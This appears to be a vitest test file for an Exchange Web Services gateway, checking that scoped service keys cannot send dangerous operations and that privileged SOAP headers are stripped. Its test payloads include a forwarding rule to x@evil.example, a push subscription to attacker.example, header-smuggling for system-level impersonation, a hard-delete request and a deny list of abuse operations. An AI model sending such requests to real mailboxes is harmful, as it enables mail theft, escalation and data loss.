import { namedUserAddresses } from "../server/jobs/testing/factories";
import { SaxesParser } from "saxes";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO, demoTenant, startExchangeSimulator, type ExchangeSimulator } from "../server/ews-simulator";
import type { HttpRequest } from "../server/ews/transport";
import { insertUsersAt } from "./factories/users";
import { announcePostgresSkip, startTestServer, testDatabases, type TestServer } from "./helpers/server";

announcePostgresSkip();

const T = "http://schemas.microsoft.com/exchange/services/2006/types";
const M = "http://schemas.microsoft.com/exchange/services/2006/messages";
const soap = (body: string, header = `<t:RequestServerVersion Version="Exchange2013"/>`) =>
  `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="${T}" xmlns:m="${M}"><soap:Header>${header}</soap:Header><soap:Body>${body}</soap:Body></soap:Envelope>`;
const getInbox = `<m:GetFolder><m:FolderShape><t:BaseShape>Default</t:BaseShape></m:FolderShape><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:GetFolder>`;

/** Each operation no key may send, with a plausible request body. */
const NEVER: [string, string][] = [
  [
    "AddDelegate",
    `<m:AddDelegate><m:Mailbox><t:EmailAddress>a@contoso.com</t:EmailAddress></m:Mailbox><m:DelegateUsers/></m:AddDelegate>`,
  ],
  [
    "UpdateDelegate",
    `<m:UpdateDelegate><m:Mailbox><t:EmailAddress>a@contoso.com</t:EmailAddress></m:Mailbox></m:UpdateDelegate>`,
  ],
  [
    "RemoveDelegate",
    `<m:RemoveDelegate><m:Mailbox><t:EmailAddress>a@contoso.com</t:EmailAddress></m:Mailbox><m:UserIds/></m:RemoveDelegate>`,
  ],
  [
    "GetDelegate",
    `<m:GetDelegate IncludePermissions="true"><m:Mailbox><t:EmailAddress>a@contoso.com</t:EmailAddress></m:Mailbox></m:GetDelegate>`,
  ],
  [
    "UpdateInboxRules",
    `<m:UpdateInboxRules><m:RemoveOutlookRuleBlob>true</m:RemoveOutlookRuleBlob><m:Operations><t:CreateRuleOperation><t:Rule><t:DisplayName>fwd</t:DisplayName><t:Actions><t:ForwardToRecipients><t:Address><t:EmailAddress>x@evil.example</t:EmailAddress></t:Address></t:ForwardToRecipients></t:Actions></t:Rule></t:CreateRuleOperation></m:Operations></m:UpdateInboxRules>`,
  ],
  ["GetInboxRules", `<m:GetInboxRules/>`],
  [
    "SetUserOofSettings",
    `<m:SetUserOofSettingsRequest><t:Mailbox><t:Address>a@contoso.com</t:Address></t:Mailbox></m:SetUserOofSettingsRequest>`.replace(
      /SetUserOofSettingsRequest/g,
      "SetUserOofSettings",
    ),
  ],
  [
    "EmptyFolder",
    `<m:EmptyFolder DeleteType="HardDelete" DeleteSubFolders="true"><m:FolderIds><t:DistinguishedFolderId Id="inbox"/></m:FolderIds></m:EmptyFolder>`,
  ],
  ["ExportItems", `<m:ExportItems><m:ItemIds><t:ItemId Id="AAA="/></m:ItemIds></m:ExportItems>`],
  ["UploadItems", `<m:UploadItems><m:Items/></m:UploadItems>`],
];

/** The Header's child elements as Exchange would read them: {namespace}local. */
function headerElements(xml: string): string[] {
  const parser = new SaxesParser({ xmlns: true });
  const names: string[] = [];
  let depth = 0;
  let inHeader = false;
  parser.on("opentag", (tag) => {
    depth += 1;
    if (depth === 2) inHeader = tag.local === "Header";
    else if (depth === 3 && inHeader) names.push(`{${tag.uri}}${tag.local}`);
  });
  parser.on("closetag", () => {
    depth -= 1;
  });
  parser.write(xml).close();
  return names;
}

describe.each(testDatabases())(
  "EWS gateway: headers, operations by scope, streamed answers on %s",
  (dialect) => {
    let s: TestServer;
    let sim: ExchangeSimulator;
    let addresses: string[];
    const keys: Record<"proxy" | "read" | "write", string> = { proxy: "", read: "", write: "" };
    /** The SOAP requests the gateway sent towards Exchange. */
    const forwarded: string[] = [];

    const gateway = (key: string, body: string, address = addresses[0]) =>
      fetch(`${s.url}/api/v1/sync/mailboxes/${encodeURIComponent(address)}/ews`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}`, "content-type": "text/xml; charset=utf-8" },
        body,
      });

    /** A refusal: the SOAP fault Exchange would send for access denied, naming the operation and the scope. */
    async function expectRefused(res: Response, operation: string, needs: string): Promise<string> {
      const text = await res.text();
      expect(res.status).toBe(500);
      expect(res.headers.get("content-type")).toContain("text/xml");
      expect(res.headers.get("x-mailbox-sync-refused")).toBe(operation);
      expect(text).toContain("<faultcode");
      expect(text).toContain(">ErrorAccessDenied</e:ResponseCode>");
      expect(text).toContain(`<t:Value Name="Operation">${operation}</t:Value>`);
      expect(text).toContain(`<t:Value Name="RequiredScope">${needs}</t:Value>`);
      expect(text).toContain(operation);
      return text;
    }

    beforeAll(async () => {
      sim = await startExchangeSimulator({ tenant: demoTenant({ users: 10 }) });
      s = await startTestServer({
        dialect,
        env: { EWS_ALLOWED_HOSTS: "127.0.0.1", GATEWAY_MAX_RESPONSE_MB: "25" },
      });
      const profileId = (await s.admin.post("/profiles", { name: "Scopes" })).body.data.id;
      const put = await s.admin.put(`/profiles/${profileId}/mailbox-access`, {
        type: "ews-basic-impersonation",
        accountLogon: DEMO.serviceAccount.logon,
        password: DEMO.serviceAccount.password,
        ewsUrl: sim.ewsUrl,
      });
      expect(put.status).toBe(200);
      addresses = namedUserAddresses(sim.tenant, 3);
      const now = new Date().toISOString();
      await insertUsersAt(s.ctx, profileId, addresses, {
        idOf: (i) => `sc-${dialect}-${i}`,
        state: "active",
        mailboxKind: "user",
        lastCheckedAt: now,
      });
      for (const [name, scopes] of [
        ["proxy", ["ews:proxy"]],
        ["read", ["ews:read", "roster:read"]],
        ["write", ["ews:write"]],
      ] as const) {
        const created = await s.admin.post("/service-keys", { name, scopes });
        expect(created.status).toBe(201);
        keys[name] = created.body.data.key;
      }
      const transport = s.ctx.services.ews.transport;
      const stream = transport.stream.bind(transport);
      transport.stream = (req: HttpRequest) => {
        forwarded.push(req.body ?? "");
        return stream(req);
      };
    });
    afterAll(async () => {
      await s?.close();
      await sim?.close();
    });

    it("creates keys with any of the scopes, more than three at once, and lists them", async () => {
      const all = ["roster:read", "ews:read", "ews:write", "reports:write"];
      const created = await s.admin.post("/service-keys", { name: "all", scopes: all });
      expect(created.status).toBe(201);
      expect(created.body.data.scopes).toEqual(all);
      const listed = (await s.admin.get("/service-keys")).body.data.find(
        (k: { name: string }) => k.name === "all",
      );
      expect(listed.scopes).toEqual(all);
      const bad = await s.admin.post("/service-keys", { name: "bad", scopes: ["ews:admin"] });
      expect(bad.status).toBe(400);
    });

    it("forwards only the allowed SOAP headers, whatever prefix or namespace trick hides the others", async () => {
      forwarded.length = 0;
      const header =
        `<t:RequestServerVersion Version="Exchange2013"/><t:OpenAsAdminOrSystemService LogonType="SystemService"/>` +
        `<x:SerializedSecurityContext xmlns:x="${T}"><x:UserSid>S-1-5-18</x:UserSid></x:SerializedSecurityContext>` +
        `<OpenAsAdminOrSystemService xmlns="${T}" LogonType="Admin"/><!-- <t:MailboxCulture/> -->` +
        `<t:ExchangeImpersonation><t:ConnectingSID><t:PrimarySmtpAddress>${addresses[2]}</t:PrimarySmtpAddress></t:ConnectingSID></t:ExchangeImpersonation>` +
        `<e:Unknown xmlns:e="urn:evil"/>`;
      const res = await gateway(keys.proxy, soap(getInbox, header));
      expect(res.status).toBe(200);
      expect(await res.text()).toContain('ResponseClass="Success"');
      expect(forwarded).toHaveLength(1);
      expect(headerElements(forwarded[0])).toEqual([
        `{${T}}RequestServerVersion`,
        `{${T}}ExchangeImpersonation`,
      ]);
      expect(forwarded[0]).not.toMatch(
        /OpenAsAdminOrSystemService|SerializedSecurityContext|S-1-5-18|urn:evil/,
      );
      expect(forwarded[0]).not.toContain(addresses[2]);
    });

    it.each(NEVER)("never forwards %s, even for an ews:proxy key", async (operation, body) => {
      sim.resetCounters();
      await expectRefused(await gateway(keys.proxy, soap(body)), operation, "never");
      expect(sim.counters.requests).toBe(0);
    });

    it("lets a read key read and refuses its writes, naming the scope they need", async () => {
      sim.resetCounters();
      expect((await gateway(keys.read, soap(getInbox))).status).toBe(200);
      const create = `<m:CreateItem MessageDisposition="SaveOnly"><m:Items><t:Message><t:Subject>x</t:Subject></t:Message></m:Items></m:CreateItem>`;
      const text = await expectRefused(await gateway(keys.read, soap(create)), "CreateItem", "ews:write");
      expect(text).toContain("'ews:write' scope");
      await expectRefused(await gateway(keys.write, soap(getInbox)), "GetFolder", "ews:read");
      expect(sim.counters.requests).toBe(1);
      // Logged for the operator, with the key's name (never the key).
      const line = s.logs.find(
        (l) => l.includes("EWS gateway refused an operation") && l.includes("CreateItem"),
      );
      expect(line).toContain('"serviceKey":"read"');
      expect(line).not.toContain(keys.read);
    });

    it("refuses an unknown operation, one outside the EWS namespace, and a Body with two operations", async () => {
      sim.resetCounters();
      await expectRefused(
        await gateway(
          keys.proxy,
          soap(
            `<m:GetPasswordExpirationDate><m:MailboxSmtpAddress>a@contoso.com</m:MailboxSmtpAddress></m:GetPasswordExpirationDate>`,
          ),
        ),
        "GetPasswordExpirationDate",
        "unlisted",
      );
      await expectRefused(
        await gateway(keys.proxy, soap(`<x:GetFolder xmlns:x="urn:not-ews"/>`)),
        "GetFolder",
        "unlisted",
      );
      // A name no HTTP header can carry still gets its fault.
      const odd = await gateway(keys.proxy, soap(`<m:Gét${"x".repeat(200)}/>`));
      expect(odd.status).toBe(500);
      expect(odd.headers.get("x-mailbox-sync-refused")).toBe("unnamed");
      expect(await odd.text()).toContain("ErrorAccessDenied");
      const two = await gateway(keys.proxy, soap(`${getInbox}<m:EmptyFolder/>`));
      expect(two.status).toBe(400);
      expect((await two.json()).error.id).toBe("invalid_soap");
      expect(sim.counters.requests).toBe(0);
    });

    it("refuses a CreateFolder or UpdateFolder that sets folder permissions", async () => {
      sim.resetCounters();
      const create = `<m:CreateFolder><m:ParentFolderId><t:DistinguishedFolderId Id="inbox"/></m:ParentFolderId><m:Folders><t:Folder><t:DisplayName>Shared</t:DisplayName><t:PermissionSet><t:Permissions><t:Permission><t:UserId><t:DistinguishedUser>Default</t:DistinguishedUser></t:UserId><t:PermissionLevel>Editor</t:PermissionLevel></t:Permission></t:Permissions></t:PermissionSet></t:Folder></m:Folders></m:CreateFolder>`;
      const text = await expectRefused(
        await gateway(keys.proxy, soap(create)),
        "CreateFolder",
        "permissions",
      );
      expect(text).toContain("PermissionSet");
      const update = `<m:UpdateFolder><m:FolderChanges><t:FolderChange><t:DistinguishedFolderId Id="inbox"/><t:Updates><t:SetFolderField><t:FieldURI FieldURI="folder:PermissionSet"/><t:Folder><t:PermissionSet><t:Permissions/></t:PermissionSet></t:Folder></t:SetFolderField></t:Updates></t:FolderChange></m:FolderChanges></m:UpdateFolder>`;
      await expectRefused(await gateway(keys.proxy, soap(update)), "UpdateFolder", "permissions");
      expect(sim.counters.requests).toBe(0);
    });

    it("refuses a push subscription (Exchange would post to the key's URL) and forwards a pull one", async () => {
      sim.resetCounters();
      const push = `<m:Subscribe><m:PushSubscriptionRequest><t:FolderIds><t:DistinguishedFolderId Id="inbox"/></t:FolderIds><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes><t:StatusFrequency>1</t:StatusFrequency><t:URL>https://attacker.example/listen</t:URL></m:PushSubscriptionRequest></m:Subscribe>`;
      const text = await expectRefused(await gateway(keys.read, soap(push)), "Subscribe", "never");
      expect(text).toContain("PushSubscriptionRequest");
      expect(sim.counters.requests).toBe(0);
      const pull = `<m:Subscribe><m:PullSubscriptionRequest><t:FolderIds><t:DistinguishedFolderId Id="inbox"/></t:FolderIds><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes><t:Timeout>10</t:Timeout></m:PullSubscriptionRequest></m:Subscribe>`;
      const forwarded = await gateway(keys.read, soap(pull));
      expect(forwarded.headers.get("x-mailbox-sync-refused")).toBeNull();
      expect(sim.counters.requests).toBe(1);
    });

    it("streams a large answer: the first bytes reach the caller while Exchange is still sending", async () => {
      let release = () => undefined as void;
      const held = new Promise<void>((r) => (release = r));
      let finished = false;
      sim.faults.padAnswers = {
        bytes: 20 * 1024 * 1024,
        afterFirstChunk: held,
        onFinished: () => (finished = true),
      };
      try {
        // A gateway that buffered would wait for the whole answer; the simulator sends the rest only once
        // the caller has bytes, so the guard below releases it and the test fails instead of hanging.
        // eslint-disable-next-line no-restricted-globals -- a guard that ends a hung stream, not a wait
        const guard = setTimeout(release, 20_000);
        const res = await gateway(keys.read, soap(getInbox));
        expect(res.status).toBe(200);
        const reader = res.body!.getReader();
        const first = await reader.read();
        const receivedWhileHeld = !finished;
        let heldStill = true;
        void held.then(() => (heldStill = false));
        await Promise.resolve();
        expect(first.done).toBe(false);
        expect(heldStill).toBe(true);
        expect(receivedWhileHeld).toBe(true);
        clearTimeout(guard);
        release();
        let total = first.value!.length;
        let tail = "";
        for (;;) {
          const next = await reader.read();
          if (next.done) break;
          total += next.value.length;
          tail = Buffer.from(next.value.subarray(-64)).toString("utf8");
        }
        expect(total).toBeGreaterThan(20 * 1024 * 1024);
        expect(tail).toMatch(/<\/s:Envelope>$/);
        expect(finished).toBe(true);
      } finally {
        sim.faults.padAnswers = undefined;
      }
    });

    it("cuts the connection when an answer passes GATEWAY_MAX_RESPONSE_MB, so the caller can't take it for complete", async () => {
      let finished = false;
      sim.faults.padAnswers = { bytes: 30 * 1024 * 1024, onFinished: () => (finished = true) };
      try {
        const res = await gateway(keys.read, soap(getInbox));
        expect(res.status).toBe(200);
        await expect(res.arrayBuffer()).rejects.toThrow();
        await expect.poll(() => finished).toBe(true);
        expect(s.logs.join("\n")).toContain("GATEWAY_MAX_RESPONSE_MB");
        // The gateway freed the profile's slot and serves the next call.
        sim.faults.padAnswers = undefined;
        expect((await gateway(keys.read, soap(getInbox))).status).toBe(200);
      } finally {
        sim.faults.padAnswers = undefined;
      }
    });
  },
);
